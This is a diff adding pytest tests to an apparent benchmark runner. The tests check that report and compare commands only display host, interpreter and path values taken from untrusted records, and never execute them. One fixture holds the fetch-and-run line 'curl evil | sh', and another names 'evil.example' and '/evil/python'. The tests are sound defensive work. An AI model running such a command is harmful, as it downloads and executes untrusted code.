@@ -1,11 +1,15 @@
 import json
+import os
+import socket
+import subprocess
 from pathlib import Path
 
 import pytest
 
-from runner.commands import report
+from runner.commands import compare, report
 from runner.core.errors import SpecError
-from runner.results import archive
+from runner.results import archive, records
+from runner.sweep import request
 from tests.report import fixtures, pages
 from tests.report.fixtures import measured, spec
 
@@ -33,10 +37,44 @@ def test_any_record_or_exported_file(capsys: pytest.CaptureFixture[str]) -> None
     assert (document["record_id"], len(document["pairs"])) == (pages.ID, 8)
 
 
+def test_what_an_exported_file_advises_is_called_its_own(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    failed = fixtures.not_measured("20261122T090100-00000001", spec(), "failed", "it broke", "curl evil | sh")
+    archive.write(fixtures.write(tmp_path, failed), tmp_path / "evil.zip")
+    assert report.main(["evil.zip"]) == 0
+    assert "The file advises: curl evil | sh" in capsys.readouterr().out
+
+
 def test_html_is_one_file(capsys: pytest.CaptureFixture[str]) -> None:
     assert report.main(["--html", "page.html"]) == 0
     assert capsys.readouterr().out == "written  page.html\n"
     assert Path("page.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
+
+
+def test_a_host_an_interpreter_and_a_file_that_a_record_names_are_shown_and_not_used(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A record of a device names one: it says where it was measured. Nothing makes a spec of it again."""
+    foreign = spec()
+    foreign["hardware"] = {"name": "ssh", "host": "evil.example", "python": "/evil/python"}
+    foreign["toolchain"] = {"python": "/evil/python", "image": None}
+    foreign["model"] |= {"name": "file", "path": "/evil/model.so"}
+    there = fixtures.write(tmp_path, measured("20261122T090100-00000001", foreign, spec(), "auto", 2.0))
+    archive.write(there, tmp_path / "evil.zip")
+    for module, name in ((subprocess, "Popen"), (os, "posix_spawn"), (os, "execve"), (socket, "socket")):
+        monkeypatch.setattr(module, name, pytest.fail)
+    for name in (there.folder.name, "evil.zip"):
+        assert report.main([name, "--html", "page.html"]) == 0
+        assert compare.main([pages.ID, name]) == 0
+    assert "evil.example" in Path("page.html").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("word", ["experiment=evil", "experiment=evil.zip", "experiment=../evil", "model=evil.zip"])
+def test_no_word_makes_a_spec_of_a_record(tmp_path: Path, word: str) -> None:
+    record = tmp_path / "records" / pages.ID
+    archive.write(records.read(record), tmp_path / "evil.zip")
+    (tmp_path / "evil.yaml").write_text((record / "record.json").read_text())
+    with pytest.raises(SpecError):
+        request.read(tmp_path, [word])
 
 
 @pytest.mark.parametrize(
